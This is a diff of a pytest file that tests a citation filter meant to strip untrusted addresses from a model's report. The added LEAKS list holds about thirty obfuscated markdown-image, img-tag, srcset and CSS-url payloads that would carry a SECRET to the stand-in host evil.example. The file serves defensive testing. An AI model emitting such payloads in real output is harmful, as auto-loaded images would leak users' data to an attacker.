@@ -63,7 +63,7 @@ def test_numbers(report: str, text: str, cited: list[int]) -> None:
     [
         ("See https://evil.example/x?q=1.", "See."),
         ("See https://sea.example/tides.", "See https://sea.example/tides."),
-        ("See http://www.sea.example/tides/#top, ok", "See http://www.sea.example/tides/#top, ok"),
+        ("See http://www.sea.example/tides/#top, ok", "See https://sea.example/tides, ok"),
         ("See <https://evil.example> now", "See now"),
         ("See HTTPS://EVIL.example/[1]", "See[1]"),
         ("Go to www.evil.example!", "Go to!"),
@@ -90,12 +90,68 @@ def test_addresses(report: str, text: str) -> None:
     assert shown(report)[0] == text
 
 
+LEAKS = [
+    "![x](https://sea.example/tides?utm_x=SECRET)",
+    "See https://sea.example/tides?fbclid=SECRET and https://sea.example/tides#SECRET",
+    "[x](https://moon.example/a?b=1&gclid=SECRET)",
+    '<img src="//evil.example/p?SECRET">',
+    "<img src=//evil.example/p?SECRET>",
+    '<img\nsrc = "/\n/evil.example/p?SECRET">',
+    '<img srcset="/a 1x, //evil.example/p?SECRET 2x">',
+    '<img src="https:/evil.example/p?SECRET">',
+    '<img src="https:\\\\evil.example/p?SECRET">',
+    '<img src="/\\evil.example/p?SECRET">',
+    '<img src="http:evil.example/p?SECRET">',
+    '<img src="ht\ntps://evil.example/p?SECRET">',
+    '<img src="https:\n//evil.example/p?SECRET">',
+    '<img src="&#104;ttps://evil.example/p?SECRET">',
+    '<img src="https&#58;//evil.example/p?SECRET">',
+    '<img src="https:&sol;&sol;evil.example/p?SECRET">',
+    '<img src="&#x2F&#47evil.example/p?SECRET">',
+    '<div style="background:url(//evil.example/p?SECRET)">',
+    "![x][r]\n\n[r]: //evil.example/p?SECRET",
+    "![x][r]\n\n[r]:\n//evil.example/p?SECRET",
+    "> ![x][r]\n>\n> [r]:\n> //evil.example/p?SECRET",
+    "![x][r]\n\n[r]: <//evil.example/p?SECRET>",
+    "![x][r]\n\n[r]: &#104;ttps://evil.example/p?SECRET",
+    "![x][1]\n\n[1]: //evil.example/p?SECRET",
+    "![x](\n//evil.example/p?SECRET)",
+    "![a[b]](//evil.example/p?SECRET)",
+    "\\`![x](//evil.example/p?SECRET)\\`",
+    "\\`<img src='https&#58;//evil.example/p?SECRET'>\\`",
+    "    ```\n![x](//evil.example/p?SECRET)",
+    "```\n<img src='//evil.example/p?SECRET'>\n```",
+]
+
+
+@pytest.mark.parametrize("report", LEAKS)
+def test_no_spelling_of_an_address_carries_a_secret_away(report: str) -> None:
+    """A client may load an image by itself. What a model has read must not be in its address."""
+    for size in (1, 2, 3, 7, len(report)):
+        cut = CitationFilter(SOURCES, "Sources")
+        text = "".join(cut.feed(report[i : i + size]) for i in range(0, len(report), size))
+        left = re.sub("&#?[0-9a-z]*;?|[\\s>]", "", text + cut.close())
+        assert not re.search(r"(?:https?:|(?<!\w)[/\\][/\\]).*SECRET", left), left
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = a // b  # no address", "f(//)", "a \\\\ b", "1 & 2 \\\\3", "redis://localhost:6379",
+        "AT&T &amp; Co. isn&#39;t & &", "(http: a status)", "either/or, and//or", "C:\\dir", "12:3",
+        "for (i = 0; i < n; i++) // count", "\\\\server\\share", "a <b> c, https", "s: t: ps:",
+    ],
+)  # fmt: skip
+def test_what_is_no_address_stays(text: str) -> None:
+    assert checked(text, {}, "") == text
+
+
 def test_an_address_that_the_user_wrote_is_kept() -> None:
     known = addresses("Is (https://mine.example/a) right, or www.mine.example/b?")
     assert known == ["https://mine.example/a", "www.mine.example/b"]
     report = "At https://mine.example/a and https://mine.example/b, not https://mine.example/c."
     assert checked(report, {}, "", known) == (
-        "At https://mine.example/a and https://mine.example/b, not."
+        "At https://mine.example/a and https://www.mine.example/b, not."
     )
 
 
@@ -135,9 +191,11 @@ PIECES = st.lists(
         [
             "[1]", "[", "]", "(", ")", "[2, 9]", "![", "](", "https://sea.example/tides", "http",
             "://", "https://evil.example/", "www.", "`", "```", "\n", " ", "word", "[9]", "<", ">",
-            "\u3010", "1", "\u3011", "!", ".", "[x](https://evil.example)", "[https://evil.example](https://evil.example)",
-            "\n## ", "\n**", "**", "\n- [1]", "\n1. [2] ", "\n[1] ", "\n",
-            "[x](https://sea.example/tides)",
+            "\u3010", "1", "\u3011", "!", ".", "[x](https://evil.example)",
+            "[https://evil.example](https://evil.example)", "\n## ", "\n**", "**",
+            "\n- [1]", "\n1. [2] ", "\n[1] ", "\n",
+            "[x](https://sea.example/tides)", "//", "/", ":", ": ", '"', "=", "&", "#47;", "sol;",
+            "tps", "\\", ",", "s", "https:", "&#104;",
         ]
     ),
     max_size=14,
